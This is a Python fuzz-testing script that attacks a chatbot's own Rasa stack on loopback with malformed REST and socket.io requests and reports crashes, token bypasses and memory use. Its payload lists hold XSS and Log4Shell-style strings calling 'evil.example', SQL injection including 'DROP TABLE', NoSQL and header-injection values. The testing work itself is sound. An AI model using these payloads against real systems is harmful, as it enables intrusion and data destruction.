"""Hostile input against a private stack on loopback: thousands of malformed requests and odd messages
over the REST channel and the web widget's socket.io channel, then whether the bot is still well.

    python -m eval.fuzz [--n 10000] [--seconds 1500] [--seed 12] [--workers 8] [--keep-logs DIR]

It starts its own Rasa and action servers on free ports of 127.0.0.1 (copies of knowledge/ and the
index, an empty case database, no Telegram, Rasa's HTTP API off as in production), sends the inputs
from several threads, and prints what came back: counts per channel, kind and category, the HTTP
statuses, server errors (5xx), "service unavailable" replies, tracebacks in the servers' logs, both
servers' health, Rasa's memory before, after a warm-up and at the end, and reply latencies.
The inputs come from a seeded generator, so a run can be repeated exactly.
Exit code 1 when a server answered 5xx or not at all, said the service is down, wrote a traceback,
accepted a post without its token, or is unhealthy at the end. It asserts nothing about speed.
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import http.client
import json
import queue
import random
import signal
import statistics
import threading
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from bot.stack import Stack, http_get
from eval.toolkit.bot import private_stack

# What the message text is. Every probe carries one, also when the request around it is malformed.
MESSAGE_CATEGORIES = (
    "empty",
    "whitespace",
    "huge",
    "control",
    "surrogate",
    "rtl",
    "html",
    "sql",
    "json",
    "payload",
    "deadline",
    "emoji",
    "mixed",
)
# How a REST post is malformed ("message": a well-formed post that reaches the NLU).
REST_KINDS = (
    "message",
    "no_token",
    "wrong_token",
    "other_scheme",
    "content_type",
    "not_json",
    "json_list",
    "json_string",
    "json_number",
    "json_null",
    "sender_missing",
    "sender_empty",
    "sender_not_string",
    "sender_huge",
    "sender_unprintable",
    "message_missing",
    "message_not_string",
    "metadata_not_object",
    "wrong_method",
)
# How a socket.io exchange is malformed ("message": a message on the client's own session).
SOCKET_KINDS = (
    "message",
    "forged_session",
    "data_not_dict",
    "message_not_string",
    "metadata_not_object",
    "no_data",
    "extra_args",
    "unknown_event",
    "odd_session_request",
    "raw_packet",
)
CHANNELS = ("rest", "socketio")
WELL_FORMED_SHARE = 0.17  # of the probes reach the NLU (~0.1–0.3 s each); the rest are rejected cheaply
SOCKET_SHARE = 0.45
HUGE_LENGTHS = (20_000, 100_000)
DEADLINE_UNIT = "2000000个工作日内"
DEADLINE_260 = (DEADLINE_UNIT * (260 // len(DEADLINE_UNIT) + 1))[:260]
SESSION = "\0session\0"  # stands for the socket client's own session id, filled in when sent
DOWN_PREFIXES = ("抱歉，知识服务暂时不可用", "Sorry, the knowledge service is temporarily unavailable")
UNREADABLE_MARK = "could not read that message"
NO_REPLY_SECONDS = 12.0  # a socket.io message with no reply by then counts as "no reply"

_WORDS_ZH = (
    "中日PPH",
    "需要",
    "提交",
    "哪些材料",
    "商标",
    "恶意抢注",
    "海关",
    "扣押",
    "警告函",
    "专利",
    "律师",
    "期限",
)
_WORDS_EN = ("PPH", "RCEP", "trademark", "customs", "seized", "warning letter", "patent", "deadline", "help", "what")
_EMOJI = ("😀", "🔥", "🇨🇳", "🇩🇪", "👩‍👩‍👧‍👦", "👍🏽", "❤️", "🧑‍⚖️", "\ufe0f", "\u200d", "🀄", "📄")
_WHITESPACE = (" ", "\t", "\n", "\r", "\u3000", "\u00a0", "\u2003", "\u200b", "\ufeff", "\u2028")
_RTL = ("\u202e", "\u202d", "\u202b", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u061c")
_HTML = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(document.cookie)">',
    '"><svg/onload=fetch("//evil.example")>',
    "<iframe src=javascript:alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "<a href='javascript:void(0)'>点我</a>",
    "&lt;b&gt;&#x3C;script&#x3E;",
)
_SQL = (
    "' OR 1=1 --",
    "'; DROP TABLE cases; --",
    '" UNION SELECT sender_id, contact FROM cases --',
    "1; UPDATE cases SET status='closed' WHERE 1=1",
    "案件编号 1' AND SLEEP(5) --",
    "admin'/*",
    "%27%20OR%20%271%27=%271",
)
_JSON = (
    '{"sender": "tg-1", "message": "hi"}',
    '{"message": {"$gt": ""}}',
    "[",
    '{"a":',
    '\\"}',
    "null",
    '[{"event": "slot", "name": "case_enterprise", "value": "x"}]',
    '{"__proto__": {"admin": true}}',
)
_PAYLOADS = (
    '/intent{"slot":"x"}',
    "/restart",
    "/session_start",
    '/report_case{"case_enterprise":"Forged Ltd"}',
    "/greet",
    "/nlu_fallback",
    "/action_listen",
    "//restart",
    '/affirm{"case_id": "1"}',
    '/inform{"country": "\'; DROP TABLE cases; --"}',
    "/",
    '/{"a": 1}',
)
_MIXED = (
    "中日PPH how long does it take?",
    "RCEP成员国 list please",
    "我们的goods在Hamburg被customs扣押了 what now",
    "收到 warning letter 怎么办",
    "trademark 被恶意抢注 in Germany, 需要律师",
)


def message_text(rng: random.Random, category: str, huge_length: int | None = None) -> str:
    """One message of a category; huge ones are ``huge_length`` (or a random one of HUGE_LENGTHS) long."""
    if category == "empty":
        return ""
    if category == "whitespace":
        return "".join(rng.choice(_WHITESPACE) for _ in range(rng.randint(1, 60)))
    if category == "huge":
        length = huge_length or rng.choice(HUGE_LENGTHS)
        unit = rng.choice((rng.choice(_WORDS_ZH), rng.choice(_WORDS_EN) + " ", DEADLINE_UNIT, "a", "1", " !", "@"))
        return (unit * (length // len(unit) + 1))[:length]
    if category == "control":
        pieces = [rng.choice(_WORDS_ZH + _WORDS_EN) for _ in range(rng.randint(1, 5))]
        controls = [chr(c) for c in (*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0))]
        return "".join(p + "".join(rng.choice(controls) for _ in range(rng.randint(1, 4))) for p in pieces)
    if category == "surrogate":
        lone = rng.choice(("\ud800", "\udfff", "\udc00", "\ud83d", "\ud800\ud800"))
        return rng.choice(("", rng.choice(_WORDS_ZH), rng.choice(_WORDS_EN))) + lone + rng.choice(("", "PPH", "?"))
    if category == "rtl":
        return rng.choice(("invoice", "合同", "PPH")) + rng.choice(_RTL) + rng.choice(("fdp.exe", "期限", "gnp.js"))
    if category == "html":
        return rng.choice(_HTML)
    if category == "sql":
        return rng.choice(_SQL)
    if category == "json":
        return rng.choice(_JSON)
    if category == "payload":
        return rng.choice(_PAYLOADS)
    if category == "deadline":
        return rng.choice((DEADLINE_260, "截止" + DEADLINE_260[:258], DEADLINE_260[:259] + "后"))
    if category == "emoji":
        return "".join(rng.choice(_EMOJI) for _ in range(rng.randint(1, 40)))
    if category == "mixed":
        return rng.choice(_MIXED)
    raise ValueError(f"unknown category {category!r}")


@dataclass(frozen=True)
class Probe:
    """One hostile input: where it goes, how it is malformed and what its message text is."""

    channel: str  # "rest" or "socketio"
    kind: str  # "message" (well-formed) or one of REST_KINDS / SOCKET_KINDS
    category: str  # what the message text is (MESSAGE_CATEGORIES)
    method: str = "POST"  # REST
    headers: tuple[tuple[str, str], ...] = ()  # REST: every header sent (the token as "<token>")
    body: bytes = b""  # REST: the raw body; raw_packet: the engine.io payload
    event: str = "user_uttered"  # socket.io
    args: tuple[Any, ...] = ()  # socket.io: the event's arguments (SESSION stands for the client's id)

    @property
    def well_formed(self) -> bool:
        """True for a message that reaches the NLU."""
        return self.kind == "message"


TOKEN = "<token>"  # stands for the REST channel's token when sent; "<token-cut>" and "<TOKEN>" for near misses


def _json_body(rng: random.Random, payload: object) -> bytes:
    """JSON as a client would send it: with "\\u" escapes (always for lone surrogates) or as raw UTF-8."""
    if rng.random() < 0.5:
        return json.dumps(payload).encode("ascii")
    try:
        return json.dumps(payload, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:  # a lone surrogate has no UTF-8 form
        return json.dumps(payload).encode("ascii")


def _rest_probe(rng: random.Random, kind: str, category: str, sender: str) -> Probe:
    text = message_text(rng, category)
    good = {"sender": sender, "message": text}
    auth = ("Authorization", f"Bearer {TOKEN}")
    json_type = ("Content-Type", rng.choice(("application/json", "application/json; charset=utf-8")))
    headers: tuple[tuple[str, str], ...] = (json_type, auth)
    body = _json_body(rng, good)
    method = "POST"
    if kind == "message":
        content_type = rng.choice(("application/json", "application/json; charset=utf-8", "text/plain", None))
        headers = ((("Content-Type", content_type),) if content_type else ()) + (auth,)
        if rng.random() < 0.2:
            body = _json_body(rng, {**good, "metadata": rng.choice(({}, {"source": "fuzz"}, None))})
    elif kind == "no_token":
        headers = (json_type,)
    elif kind == "wrong_token":
        wrong = rng.choice(("x" * 43, "", TOKEN + "x", "<token-cut>", "null", "Bearer " + TOKEN, "<TOKEN>"))
        headers = (json_type, ("Authorization", f"Bearer {wrong}"))
    elif kind == "other_scheme":
        headers = (json_type, ("Authorization", rng.choice((f"Basic {TOKEN}", TOKEN, f"Token {TOKEN}", "Bearer"))))
    elif kind == "content_type":
        form = urllib.parse.urlencode({"sender": sender, "message": text.encode("utf-8", "surrogatepass")})
        content_type, body = rng.choice(
            (
                ("application/x-www-form-urlencoded", form.encode("ascii")),
                (
                    "multipart/form-data; boundary=xx",
                    f'--xx\r\nContent-Disposition: form-data; name="sender"\r\n\r\n{sender}\r\n--xx--'.encode(),
                ),
                ("application/xml", b"<message>hi</message>"),
            )
        )
        headers = (("Content-Type", content_type), auth)
    elif kind == "not_json":
        body = rng.choice(
            (
                b"",
                b"{not json",
                b"\xff\xfe\x00",
                body[: max(1, len(body) // 2)],
                b"{'sender': 'u'}",
                b"\x00" * 64,
                b"NaN",
            )
        )
    elif kind == "json_list":
        body = _json_body(rng, rng.choice(([good], [], [1, 2], [sender, text])))
    elif kind == "json_string":
        body = _json_body(rng, text)
    elif kind == "json_number":
        body = rng.choice((b"0", b"-1", b"1e999", b"12345678901234567890123456789", b"3.14"))
    elif kind == "json_null":
        body = rng.choice((b"null", b"true", b"false"))
    elif kind == "sender_missing":
        body = _json_body(rng, {"message": text})
    elif kind == "sender_empty":
        body = _json_body(rng, {"sender": rng.choice(("", " ", "\t\n", "\u3000")), "message": text})
    elif kind == "sender_not_string":
        body = _json_body(
            rng, {"sender": rng.choice((0, 12345, None, True, [], ["tg-1"], {"id": 1}, 1.5)), "message": text}
        )
    elif kind == "sender_huge":
        body = _json_body(rng, {"sender": "tg-" + "9" * rng.choice((126, 200, 5_000, 100_000)), "message": text})
    elif kind == "sender_unprintable":
        bad = rng.choice(("tg-1\n", "web-\x00", "u\u202e1", "\ud800", "a\x1b[31m", "tg-1\r\nX-Injected: 1"))
        body = _json_body(rng, {"sender": bad, "message": text})
    elif kind == "message_missing":
        body = _json_body(rng, {"sender": sender})
    elif kind == "message_not_string":
        body = _json_body(rng, {"sender": sender, "message": rng.choice((None, 0, 1.5, True, [text], {"text": text}))})
    elif kind == "metadata_not_object":
        body = _json_body(rng, {**good, "metadata": rng.choice(("x", "{}", [], [1], 0, True))})
    elif kind == "wrong_method":
        method = rng.choice(("GET", "PUT", "DELETE", "PATCH"))
    else:
        raise ValueError(f"unknown REST kind {kind!r}")
    return Probe("rest", kind, category, method, headers, body)


_RAW_PACKETS = (
    b"42[not json",
    b"42",
    b"4",
    b'42["user_uttered"',
    b'42[5,{"a":1}]',
    b'42{"user_uttered":1}',
    b"42[]",
    b"9",
    b"x",
    b'451-["user_uttered",{"_placeholder":true,"num":0}]',
    b'42/nowhere,["user_uttered",{}]',
    b'42["session_request"]',
    b'42["user_uttered"]',
    b'42["user_uttered",1,2,3]',
    b'42["user_uttered",{"session_id":"tg-1","message":"hi"}]',
    b'42["user_uttered",{"session_id":{"$ne":null},"message":"hi"}]',
    b"\x1e\x1e\x1e",
    b"2probe",
    b"2",
    b"6",
)


def _socket_probe(rng: random.Random, kind: str, category: str) -> Probe:
    text = message_text(rng, category)
    args: tuple[Any, ...] = ({"session_id": SESSION, "message": text},)
    event = "user_uttered"
    body = b""
    if kind == "forged_session":
        forged = rng.choice(
            (
                "tg-123",
                "tg-1001",
                "web-abc",
                "a.b",
                "x" * 300,
                "",
                None,
                5,
                ["tg-1"],
                "web-x.y.z",
                "Zm9v.YmFy",
                "\ud800",
            )
        )
        args = ({"session_id": forged, "message": text},)
    elif kind == "data_not_dict":
        args = (rng.choice((text, 5, 1.5, True, [text], ["tg-1", text])),)
    elif kind == "message_not_string":
        args = ({"session_id": SESSION, "message": rng.choice((None, 0, True, [text], {"text": text}))},)
    elif kind == "metadata_not_object":
        meta: object = rng.choice(("not json", "[1, 2]", "5", [], 0, True))
        args = ({"session_id": SESSION, "message": text, "metadata": meta},)
    elif kind == "no_data":
        args = ()
    elif kind == "extra_args":
        args = ({"session_id": SESSION, "message": text}, rng.choice(("x", 1, None, {})))
    elif kind == "unknown_event":
        event = rng.choice(("bot_uttered", "session_confirm", "connect", "disconnect", "hello", "message"))
    elif kind == "odd_session_request":
        event = "session_request"
        args = rng.choice(((), ("tg-123",), (5,), ([],), ({"session_id": "tg-123"},), ({"session_id": 5},)))
    elif kind == "raw_packet":
        body = rng.choice(_RAW_PACKETS)
        event = "bad_sid" if rng.random() < 0.15 else event  # posted to a session id nobody was given
        if rng.random() < 0.1:
            body = b'42["user_uttered",' + json.dumps({"session_id": "a", "message": text}).encode("ascii") + b"]"
    elif kind != "message":
        raise ValueError(f"unknown socket.io kind {kind!r}")
    return Probe("socketio", kind, category, body=body, event=event, args=args)


def _category(rng: random.Random, well_formed: bool) -> str:
    """A category; huge messages are rarer among those that reach the NLU (each costs seconds there)."""
    weights = [1.0] * len(MESSAGE_CATEGORIES)
    weights[MESSAGE_CATEGORIES.index("huge")] = 0.15 if well_formed else 0.6
    return rng.choices(MESSAGE_CATEGORIES, weights)[0]


REST_SENDERS = 48


def generate(n: int, seed: int = 12) -> list[Probe]:
    """n probes, the same for the same seed: first one of each kind and category on each channel, then
    a random mix in which WELL_FORMED_SHARE reach the NLU."""
    rng = random.Random(seed)
    senders = [f"fz-{i}" if i % 4 else f"tg-{900000 + i}" for i in range(REST_SENDERS)]
    probes: list[Probe] = []
    for category in MESSAGE_CATEGORIES:
        probes.append(_rest_probe(rng, "message", category, rng.choice(senders)))
        probes.append(_socket_probe(rng, "message", category))
    for kind in REST_KINDS[1:]:
        probes.append(_rest_probe(rng, kind, _category(rng, False), rng.choice(senders)))
    for kind in SOCKET_KINDS[1:]:
        probes.append(_socket_probe(rng, kind, _category(rng, False)))
    while len(probes) < n:
        well_formed = rng.random() < WELL_FORMED_SHARE
        category = _category(rng, well_formed)
        if rng.random() < SOCKET_SHARE:
            probes.append(_socket_probe(rng, "message" if well_formed else rng.choice(SOCKET_KINDS[1:]), category))
        else:
            kind = "message" if well_formed else rng.choice(REST_KINDS[1:])
            probes.append(_rest_probe(rng, kind, category, rng.choice(senders)))
    head, tail = probes[: len(MESSAGE_CATEGORIES) * 2], probes[len(MESSAGE_CATEGORIES) * 2 : n]
    rng.shuffle(tail)
    return (head + tail)[:n]


# ---- sending ---------------------------------------------------------------------------------------


@dataclass
class Outcome:
    """What came back for one probe."""

    probe: Probe
    status: int | str  # the HTTP status; "reply", "no reply", "sent" on socket.io; "error" when nothing answered
    seconds: float
    texts: list[str] = field(default_factory=list)
    error: str = ""


def _fill(value: Any, session: str) -> Any:
    if value == SESSION:
        return session
    if isinstance(value, dict):
        return {k: _fill(v, session) for k, v in value.items()}
    return value


def http_request(
    host: str, port: int, method: str, path: str, body: bytes | None, headers: dict[str, str], timeout: float = 180.0
) -> tuple[int, bytes]:
    """One HTTP request with exactly these headers and bytes; (status, body)."""
    connection = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        connection.putrequest(method, path, skip_accept_encoding=True)
        for name, value in headers.items():
            connection.putheader(name, value)
        if body is not None:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


class Sender:
    """One worker's connections: plain HTTP for REST and raw packets, a socket.io client with its own session."""

    def __init__(self, stack: Stack, origin: str, all_texts: list[str]) -> None:
        self.stack = stack
        self.origin = origin
        self.all_texts = all_texts
        self.host = urllib.parse.urlsplit(stack.rasa_url).hostname or "127.0.0.1"
        self.client: Any = None
        self.session = ""
        self.replies: queue.Queue = queue.Queue()
        self.sessions: queue.Queue = queue.Queue()
        self.reconnects = 0

    # -- REST
    def rest(self, probe: Probe) -> Outcome:
        token = self.stack.rest_token
        near = {"<token-cut>": token[:-1], "<TOKEN>": token.swapcase(), TOKEN: token}
        headers = {}
        for name, value in probe.headers:
            for mark, real in near.items():
                value = value.replace(mark, real)
            headers[name] = value
        started = time.perf_counter()
        try:
            status, raw = http_request(
                self.host, self.stack.rasa_port, probe.method, "/webhooks/rest/webhook", probe.body, headers
            )
        except (OSError, http.client.HTTPException) as exc:
            return Outcome(probe, "error", time.perf_counter() - started, error=repr(exc))
        seconds = time.perf_counter() - started
        texts: list[str] = []
        if status == 200:
            try:
                reply = json.loads(raw)
                texts = [m.get("text") or "" for m in reply if isinstance(m, dict)] if isinstance(reply, list) else []
            except ValueError:
                texts = []
        self.all_texts.extend(texts)
        return Outcome(probe, status, seconds, texts)

    # -- socket.io
    def _on_reply(self, data: Any) -> None:
        text = data.get("text") if isinstance(data, dict) else None
        if isinstance(text, str):
            self.all_texts.append(text)
        self.replies.put(data)

    def connect(self) -> None:
        import socketio  # the probe's only non-standard import, loaded when a socket is opened

        if self.client is not None:
            self.reconnects += 1
            with contextlib.suppress(Exception):
                self.client.disconnect()
        # A browser's socket.io client waits 20 s for an HTTP answer; python-socketio's default is 5 s.
        self.client = socketio.Client(reconnection=False, request_timeout=20)
        self.client.on("bot_uttered", self._on_reply)
        self.client.on("session_confirm", self.sessions.put)
        # Polling: the WebSocket client library adds an Origin of its own beside ours.
        self.client.connect(
            self.stack.rasa_url, headers={"Origin": self.origin}, transports=["polling"], wait_timeout=30
        )
        self.client.emit("session_request", {"session_id": None})
        self.session = self.sessions.get(timeout=60)

    def _drain(self) -> None:
        for q in (self.replies, self.sessions):
            while not q.empty():
                q.get_nowait()

    def socket(self, probe: Probe, quiet: float = 0.6) -> Outcome:
        if probe.kind == "raw_packet":
            return self.raw_packet(probe)
        started = time.perf_counter()
        try:
            if self.client is None or not self.client.connected:
                self.connect()
            self._drain()
            args = tuple(_fill(a, self.session) for a in probe.args)
            started = time.perf_counter()
            if not args:
                self.client.emit(probe.event)
            else:
                self.client.emit(probe.event, args[0] if len(args) == 1 else args)
        except Exception as exc:  # a refused or broken connection
            return Outcome(probe, "error", time.perf_counter() - started, error=repr(exc))
        expects_reply = probe.kind in ("message", "forged_session", "data_not_dict", "message_not_string")
        expects_reply = expects_reply or probe.kind == "metadata_not_object" and probe.args[0]["metadata"] != "not json"
        if not expects_reply:
            if probe.event == "session_request" and probe.args:
                with contextlib.suppress(queue.Empty):
                    self.sessions.get(timeout=10)
            return Outcome(probe, "sent", time.perf_counter() - started)
        try:
            # Replies come in ~0.3 s (a 20,000-character message in ~3 s); a message the bot drops would
            # otherwise hold this thread for as long as the wait.
            first = self.replies.get(timeout=NO_REPLY_SECONDS)
        except queue.Empty:
            return Outcome(probe, "no reply", time.perf_counter() - started)
        seconds = time.perf_counter() - started
        replies = [first]
        if probe.well_formed:
            while True:
                try:
                    replies.append(self.replies.get(timeout=quiet))
                except queue.Empty:
                    break
        texts = [r.get("text") or "" for r in replies if isinstance(r, dict)]
        return Outcome(probe, "reply", seconds, texts)

    def raw_packet(self, probe: Probe) -> Outcome:
        """An engine.io polling session of its own: handshake, connect, the malformed packet, close."""
        port, base = self.stack.rasa_port, "/socket.io/?EIO=4&transport=polling"
        headers = {"Origin": self.origin}
        started = time.perf_counter()
        try:
            status, raw = http_request(self.host, port, "GET", base, None, headers, timeout=30)
            if status != 200 or not raw.startswith(b"0"):
                return Outcome(probe, status, time.perf_counter() - started, error=raw[:200].decode("utf-8", "replace"))
            sid = json.loads(raw[1:].split(b"\x1e")[0])["sid"]
            post = {**headers, "Content-Type": "text/plain;charset=UTF-8"}
            path = f"{base}&sid={sid}"
            http_request(self.host, port, "POST", path, b"40", post, timeout=30)
            target = f"{base}&sid={sid[::-1]}x" if probe.event == "bad_sid" else path
            try:
                status, _ = http_request(self.host, port, "POST", target, probe.body, post, timeout=10)
                unanswered = ""
            except TimeoutError:
                status, unanswered = 0, "the packet's POST got no answer in 10 s"
            closed, _ = http_request(self.host, port, "POST", path, b"1", post, timeout=30)  # engine.io close
            if closed >= 500 or not status:
                error = (
                    f"{unanswered}; then the close POST got {closed}" if unanswered else f"the close POST got {closed}"
                )
                return Outcome(probe, closed if closed >= 500 else "error", time.perf_counter() - started, error=error)
        except (OSError, http.client.HTTPException, ValueError, KeyError) as exc:
            return Outcome(probe, "error", time.perf_counter() - started, error=repr(exc))
        return Outcome(probe, status, time.perf_counter() - started)

    def send(self, probe: Probe) -> Outcome:
        return self.rest(probe) if probe.channel == "rest" else self.socket(probe)

    def close(self) -> None:
        if self.client is not None:
            with contextlib.suppress(Exception):
                self.client.disconnect()


# ---- measuring -------------------------------------------------------------------------------------


def process_tree_rss_mb(pid: int) -> float:
    """Resident memory (VmRSS) of a process and all its descendants, in MB."""
    total, todo, seen = 0, [pid], set()
    while todo:
        p = todo.pop()
        if p in seen:
            continue
        seen.add(p)
        try:
            status = Path(f"/proc/{p}/status").read_text()
        except OSError:
            continue
        total += next((int(line.split()[1]) for line in status.splitlines() if line.startswith("VmRSS:")), 0)
        for task in Path(f"/proc/{p}/task").glob("*/children"):
            with contextlib.suppress(OSError):
                todo.extend(int(c) for c in task.read_text().split())
    return total / 1024


def tracebacks(log_paths: list[Path]) -> tuple[int, collections.Counter, str]:
    """How many "Traceback" lines the logs hold, how often each exception ends one, and the first one."""
    count, kinds, first = 0, collections.Counter[str](), ""
    for path in log_paths:
        if not path.exists():
            continue
        lines = path.read_text(encoding="utf-8", errors="replace").splitlines()
        for i, line in enumerate(lines):
            if "Traceback" not in line:
                continue
            count += 1
            end = next((j for j in range(i + 1, min(len(lines), i + 200)) if lines[j][:1] not in (" ", "\t", "")), i)
            kinds[f"{path.name}: {lines[end][:150]}"] += 1
            if not first:
                first = f"{path.name}:{i + 1}:\n" + "\n".join(x[:300] for x in lines[max(0, i - 2) : end + 1])
    return count, kinds, first


def percentile(values: list[float], q: float) -> float:
    """The q-th percentile (0–100) by linear interpolation."""
    return statistics.quantiles(values, n=100, method="inclusive")[int(q) - 1] if len(values) > 1 else values[0]


def latency_line(label: str, seconds: list[float]) -> str:
    if not seconds:
        return f"{label}: none"
    ms = sorted(s * 1000 for s in seconds)
    return f"{label} ({len(ms)}): p50 {percentile(ms, 50):.0f} ms, p95 {percentile(ms, 95):.0f} ms, max {ms[-1]:.0f} ms"


def is_down(text: str) -> bool:
    """True for the reply the bot gives when the action server did not answer."""
    return text.strip().startswith(DOWN_PREFIXES)


WARM_UP = ("你好", "中日PPH需要提交哪些材料？", "hello", "What does RCEP say about bad-faith trademark applications?")


def run_probes(
    stack: Stack, probes: list[Probe], workers: int, deadline: float, rasa_pid: int
) -> tuple[list[Outcome], list[str], int, bool]:
    """Sends the probes from `workers` threads until done or the deadline; (outcomes, every reply text,
    socket reconnections, whether it stopped early)."""
    origin = stack.web_origins.split(",")[0].strip()
    outcomes: list[Outcome] = []
    texts: list[str] = []
    todo: Iterator[Probe] = iter(probes)
    lock = threading.Lock()
    senders = [Sender(stack, origin, texts) for _ in range(workers)]
    stopped = threading.Event()
    done_count = [0]

    def work(sender: Sender) -> None:
        while True:
            if time.monotonic() > deadline:
                stopped.set()
                return
            with lock:
                probe = next(todo, None)
            if probe is None:
                return
            outcome = sender.send(probe)
            with lock:
                outcomes.append(outcome)
                done_count[0] += 1
                if done_count[0] % 1000 == 0:
                    rss = process_tree_rss_mb(rasa_pid)
                    print(f"  … {done_count[0]} of {len(probes)} sent, Rasa {rss:.0f} MB", flush=True)

    threads = [threading.Thread(target=work, args=(s,), daemon=True) for s in senders]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    # Together: a polling client's disconnect waits for its pending long poll (up to the ping interval).
    closing = [threading.Thread(target=s.close, daemon=True) for s in senders]
    for t in closing:
        t.start()
    for t in closing:
        t.join()
    return outcomes, texts, sum(s.reconnects for s in senders), stopped.is_set()


def solo_seconds(stack: Stack, message: str, sender: str) -> tuple[float, int]:
    """Seconds for one well-formed REST message while nothing else of the probe runs; and its status."""
    host = urllib.parse.urlsplit(stack.rasa_url).hostname or "127.0.0.1"
    body = json.dumps({"sender": sender, "message": message}, ensure_ascii=False).encode("utf-8")
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {stack.rest_token}"}
    started = time.perf_counter()
    status, _ = http_request(host, stack.rasa_port, "POST", "/webhooks/rest/webhook", body, headers)
    return time.perf_counter() - started, status


def table(title: str, counter: collections.Counter, width: int = 22) -> str:
    rows = [f"{title}:"]
    rows += [f"  {str(k):<{width}} {v:>6}" for k, v in sorted(counter.items(), key=lambda kv: (-kv[1], str(kv[0])))]
    return "\n".join(rows)


def _interrupted(signum: int, frame: object) -> None:
    raise KeyboardInterrupt


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--n", type=int, default=10_000, help="how many hostile inputs (default 10,000)")
    parser.add_argument("--seconds", type=float, default=1500.0, help="stop sending after this long (default 1,500)")
    parser.add_argument("--seed", type=int, default=12)
    parser.add_argument("--workers", type=int, default=8, help="concurrent senders (default 8)")
    parser.add_argument("--keep-logs", type=Path, help="copy the servers' logs here at the end")
    args = parser.parse_args(argv)
    signal.signal(signal.SIGTERM, _interrupted)  # a killed run (a CI timeout) still stops its stack
    began = time.monotonic()
    probes = generate(args.n, args.seed)
    print(f"{len(probes)} inputs (seed {args.seed}), {sum(p.well_formed for p in probes)} of them well-formed")

    with private_stack(args.keep_logs, api=False) as private:
        stack = private.stack
        logs = [stack.log_dir / "rasa.log", stack.log_dir / "actions.log"]
        rasa_pid = stack.services["rasa"].process.pid  # type: ignore[union-attr]
        print(
            f"stack on 127.0.0.1 (Rasa :{stack.rasa_port}, actions :{stack.action_port}, HTTP API off), "
            f"healthy after {private.started_in:.1f} s"
        )
        rss_start = process_tree_rss_mb(rasa_pid)
        for i, message in enumerate(WARM_UP * 3):
            solo_seconds(stack, message, f"fz-warm-{i % 3}")
        rss_warm = process_tree_rss_mb(rasa_pid)
        deadline_s, deadline_status = solo_seconds(stack, DEADLINE_260, "fz-solo-deadline")
        huge = message_text(random.Random(args.seed), "huge", 20_000)
        huge_s, huge_status = solo_seconds(stack, huge, "fz-solo-huge")

        print(f"sending with {args.workers} threads …", flush=True)
        sending = time.perf_counter()
        budget = began + args.seconds
        outcomes, texts, reconnects, stopped = run_probes(stack, probes, args.workers, budget, rasa_pid)
        sending_s = time.perf_counter() - sending
        time.sleep(2)  # let the servers finish writing their logs
        rss_end = process_tree_rss_mb(rasa_pid)
        rasa_ok = http_get(f"{stack.rasa_url}/webhooks/rest/", timeout=30)[0] == 200
        actions_ok = http_get(f"{stack.action_url}/health", timeout=30)[0] == 200
        still_answers = solo_seconds(stack, "你好", "fz-after")[1] == 200
        n_tracebacks, traceback_kinds, first_traceback = tracebacks(logs)
        error_lines = sum(
            " ERROR " in line
            for path in logs
            if path.exists()
            for line in path.read_text(encoding="utf-8", errors="replace").splitlines()
        )

    # ---- the summary
    sent = len(outcomes)
    http_statuses = collections.Counter(o.status for o in outcomes if isinstance(o.status, int))
    five_xx = [o for o in outcomes if isinstance(o.status, int) and o.status >= 500]
    unanswered = [o for o in outcomes if o.status == "error"]
    down = sum(is_down(t) for t in texts)
    bypass = [o for o in outcomes if o.probe.kind in ("no_token", "wrong_token", "other_scheme") and o.status == 200]
    well = [o for o in outcomes if o.probe.well_formed]
    no_reply = collections.Counter(f"{o.probe.channel}/{o.probe.category}" for o in outcomes if o.status == "no reply")

    print()
    print("==== hostile-input probe: summary ====")
    if stopped:
        print(f"STOPPED EARLY: the {args.seconds:.0f} s bound was reached; {sent} of {len(probes)} inputs sent")
    print(
        f"sent {sent} inputs in {sending_s:.0f} s ({args.workers} threads, seed {args.seed}); "
        f"{len(well)} well-formed (reached the NLU), {sent - len(well)} malformed"
    )
    print(table("per channel", collections.Counter(o.probe.channel for o in outcomes)))
    print(table("per channel/category", collections.Counter(f"{o.probe.channel}/{o.probe.category}" for o in outcomes)))
    print(table("per channel/kind", collections.Counter(f"{o.probe.channel}/{o.probe.kind}" for o in outcomes), 34))
    print(table("HTTP statuses (REST posts and raw socket.io packets)", http_statuses))
    print(table("socket.io outcomes", collections.Counter(o.status for o in outcomes if isinstance(o.status, str))))
    if no_reply:
        print(table("socket.io messages with no reply (informational)", no_reply))
    print(f"socket.io reconnections: {reconnects}")
    print(f"'could not read' replies: {sum(UNREADABLE_MARK in t for t in texts)}")
    print()
    print(
        latency_line(
            "REST well-formed, whole reply", [o.seconds for o in well if o.probe.channel == "rest" and o.status == 200]
        )
    )
    print(
        latency_line(
            "socket.io well-formed, first reply",
            [o.seconds for o in well if o.probe.channel == "socketio" and o.status == "reply"],
        )
    )
    print(
        f"alone, after warm-up: 260-character deadline string {deadline_s * 1000:.0f} ms (HTTP {deadline_status}); "
        f"one 20,000-character message {huge_s * 1000:.0f} ms (HTTP {huge_status})"
    )
    print(
        f"Rasa resident memory (process and children): start {rss_start:.0f} MB, after warm-up {rss_warm:.0f} MB, "
        f"end {rss_end:.0f} MB (growth since warm-up {rss_end - rss_warm:+.0f} MB)"
    )
    print(f"log lines with ERROR (informational): {error_lines}")
    print()
    checks = [
        ("HTTP 5xx answers", len(five_xx)),
        ("requests nothing answered", len(unanswered)),
        ("'service unavailable' replies", down),
        ("REST posts accepted without the token", len(bypass)),
        ("Tracebacks in rasa.log / actions.log", n_tracebacks),
    ]
    for label, value in checks:
        print(f"{'FAIL' if value else 'ok  '} {label}: {value}")
    for label, ok in (
